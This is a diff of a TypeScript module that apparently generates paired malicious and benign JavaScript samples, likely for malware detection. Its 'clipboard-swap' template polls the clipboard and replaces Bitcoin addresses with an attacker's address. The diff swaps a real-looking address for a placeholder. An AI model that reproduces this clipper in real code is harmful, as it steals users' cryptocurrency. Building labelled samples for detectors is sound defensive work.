@@ -140,7 +140,7 @@ export const JS_LASTING: Readonly<Record<string, JsDeed>> = {
   },
   'clipboard-swap': {
     bad: (w) =>
-      `const clip = ${w.mod('clipboardy')};\nsetInterval(() => {\nconst text = clip.readSync();\nif (/^(bc1|[13])[a-zA-Z0-9]{25,60}$/.test(text)) clip.writeSync(${w.text('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')});\n}, 500);`,
+      `const clip = ${w.mod('clipboardy')};\nsetInterval(() => {\nconst text = clip.readSync();\nif (/^(bc1|[13])[a-zA-Z0-9]{25,60}$/.test(text)) clip.writeSync(${w.text('bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq')});\n}, 500);`,
     twin: (w) =>
       `const clip = ${w.mod('clipboardy')};\nexports.copy = function (text) {\nclip.writeSync(String(text));\n};`,
   },
